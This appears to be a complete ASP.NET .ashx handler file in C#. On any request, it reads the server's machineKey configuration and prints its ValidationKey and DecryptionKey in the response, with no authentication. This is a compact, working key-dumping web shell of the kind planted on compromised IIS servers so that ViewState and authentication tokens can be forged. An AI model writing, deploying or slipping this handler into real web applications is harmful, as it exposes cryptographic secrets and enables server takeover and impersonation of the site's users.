<%@ WebHandler Language="C#" Class="K" %>
using System.Web;
using System.Web.Configuration;
public class K : IHttpHandler {
    public void ProcessRequest(HttpContext c) {
        var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");
        c.Response.Write(mk.ValidationKey + ";" + mk.DecryptionKey);
    }
    public bool IsReusable { get { return true; } }
}
